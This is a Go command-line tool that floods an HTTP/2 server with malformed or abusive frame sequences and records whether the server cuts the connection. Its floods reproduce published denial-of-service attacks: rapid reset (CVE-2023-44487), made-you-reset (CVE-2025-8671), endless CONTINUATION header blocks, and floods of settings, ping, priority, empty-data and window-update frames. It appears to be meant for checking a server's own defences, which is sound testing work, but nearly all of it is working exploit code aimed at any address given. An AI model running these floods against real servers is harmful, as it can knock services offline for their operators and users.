package main

import (
	"bytes"
	"crypto/tls"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"sort"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attack writes one more step of its flood; step counts from 0.
type attack func(frames *http2.Framer, name string, step uint32) error

var attacks = map[string]attack{
	// CVE-2023-44487: requests that are taken back at once.
	"rapid-reset": func(frames *http2.Framer, name string, step uint32) error {
		stream := 2*step + 1
		if err := frames.WriteHeaders(headers(stream, name, true, true)); err != nil {
			return err
		}
		return frames.WriteRSTStream(stream, http2.ErrCodeCancel)
	},
	// CVE-2025-8671: requests that force the server to do the resetting.
	"made-you-reset": func(frames *http2.Framer, name string, step uint32) error {
		stream := 2*step + 1
		if err := frames.WriteHeaders(headers(stream, name, false, true)); err != nil {
			return err
		}
		frames.AllowIllegalWrites = true
		return frames.WriteWindowUpdate(stream, 0)
	},
	// CVE-2024-27983 and its kin: a header block that never ends.
	"continuation": func(frames *http2.Framer, name string, step uint32) error {
		if step == 0 {
			return frames.WriteHeaders(headers(1, name, true, false))
		}
		return frames.WriteContinuation(1, false, block(fmt.Sprintf("x-%d", step), strings.Repeat("a", 1000)))
	},
	"empty-continuation": func(frames *http2.Framer, name string, step uint32) error {
		if step == 0 {
			return frames.WriteHeaders(headers(1, name, true, false))
		}
		return frames.WriteContinuation(1, false, nil)
	},
	"settings": func(frames *http2.Framer, _ string, step uint32) error {
		return frames.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535 - step%2})
	},
	"ping": func(frames *http2.Framer, _ string, step uint32) error {
		return frames.WritePing(false, [8]byte{byte(step)})
	},
	"empty-data": func(frames *http2.Framer, name string, step uint32) error {
		if step == 0 {
			return frames.WriteHeaders(headers(1, name, false, true))
		}
		return frames.WriteData(1, false, nil)
	},
	"priority": func(frames *http2.Framer, _ string, step uint32) error {
		return frames.WritePriority(2*(step%1000)+1, http2.PriorityParam{Weight: byte(step)})
	},
	"window-update": func(frames *http2.Framer, _ string, _ uint32) error {
		return frames.WriteWindowUpdate(0, 1)
	},
}

func block(fields ...string) []byte {
	var out bytes.Buffer
	encoder := hpack.NewEncoder(&out)
	for i := 0; i+1 < len(fields); i += 2 {
		_ = encoder.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1], Sensitive: true})
	}
	return out.Bytes()
}

func headers(stream uint32, name string, endStream, endHeaders bool) http2.HeadersFrameParam {
	method := "GET"
	if !endStream {
		method = "POST"
	}
	return http2.HeadersFrameParam{
		StreamID:      stream,
		BlockFragment: block(":method", method, ":scheme", "https", ":authority", name, ":path", "/"),
		EndStream:     endStream,
		EndHeaders:    endHeaders,
	}
}

// flood sends frames of one kind as fast as the server takes them, until the server ends the connection or -for is
// over. It reports how the connection ended and after how many steps; exit code 0 means that the server ended it.
func flood(flags *flag.FlagSet, arguments []string) error {
	address := flags.String("connect", "", "address")
	name := flags.String("name", "localhost", "server name and authority")
	ca := flags.String("ca", "", "trusted roots, PEM; none for h2c")
	kinds := make([]string, 0, len(attacks))
	for kind := range attacks {
		kinds = append(kinds, kind)
	}
	sort.Strings(kinds)
	kind := flags.String("kind", "", strings.Join(kinds, " | "))
	limit := flags.Duration("for", 5*time.Second, "give up after")
	if err := flags.Parse(arguments); err != nil {
		return err
	}
	step, known := attacks[*kind]
	if !known {
		return fmt.Errorf("kind is one of %s", strings.Join(kinds, ", "))
	}
	conn, err := dial(*address, *name, *ca, []string{"h2"})
	if err != nil {
		return err
	}
	defer conn.Close()
	if secure, isTLS := conn.(*tls.Conn); isTLS && secure.ConnectionState().NegotiatedProtocol != "h2" {
		return errors.New("the server did not choose h2")
	}
	started := time.Now()
	if err := conn.SetDeadline(started.Add(*limit)); err != nil {
		return err
	}
	end := make(chan ending, 1)
	go func() { end <- readUntilEnd(conn) }()

	steps, writeError := hammer(conn, step, *name, started.Add(*limit))
	var last ending
	select {
	case last = <-end:
	case <-time.After(2 * time.Second):
		last = ending{how: "open"}
	}
	facts := map[string]any{"kind": *kind, "steps": steps, "ended": last.how, "milliseconds": time.Since(started).Milliseconds()}
	if last.how == "goaway" {
		facts["code"] = last.code.String()
		facts["milliseconds"] = last.at.Sub(started).Milliseconds()
	}
	if writeError != nil {
		facts["write_error"] = writeError.Error()
	}
	report(facts)
	if last.how == "open" {
		return errors.New("the server let the flood go on")
	}
	return nil
}

// hammer writes until the connection breaks or the time is over.
func hammer(conn net.Conn, step attack, name string, until time.Time) (uint32, error) {
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return 0, err
	}
	// Frames are collected and written in lots: one write per frame would measure the system calls.
	var lot bytes.Buffer
	frames := http2.NewFramer(&lot, nil)
	if err := frames.WriteSettings(); err != nil {
		return 0, err
	}
	for n := uint32(0); ; n++ {
		if err := step(frames, name, n); err != nil {
			return n, err
		}
		if lot.Len() < 16*1024 {
			continue
		}
		if time.Now().After(until) {
			return n, nil
		}
		if _, err := conn.Write(lot.Bytes()); err != nil {
			return n, err
		}
		lot.Reset()
	}
}

type ending struct {
	how  string // goaway, closed or open
	code http2.ErrCode
	at   time.Time
}

func readUntilEnd(conn net.Conn) ending {
	frames := http2.NewFramer(nil, conn)
	for {
		frame, err := frames.ReadFrame()
		if err != nil {
			var timeout net.Error
			if errors.As(err, &timeout) && timeout.Timeout() {
				return ending{how: "open"}
			}
			return ending{how: "closed", at: time.Now()}
		}
		// GOAWAY with NO_ERROR only announces the end; the flood goes on until an error or a close.
		if goaway, is := frame.(*http2.GoAwayFrame); is && goaway.ErrCode != http2.ErrCodeNo {
			return ending{how: "goaway", code: goaway.ErrCode, at: time.Now()}
		}
	}
}
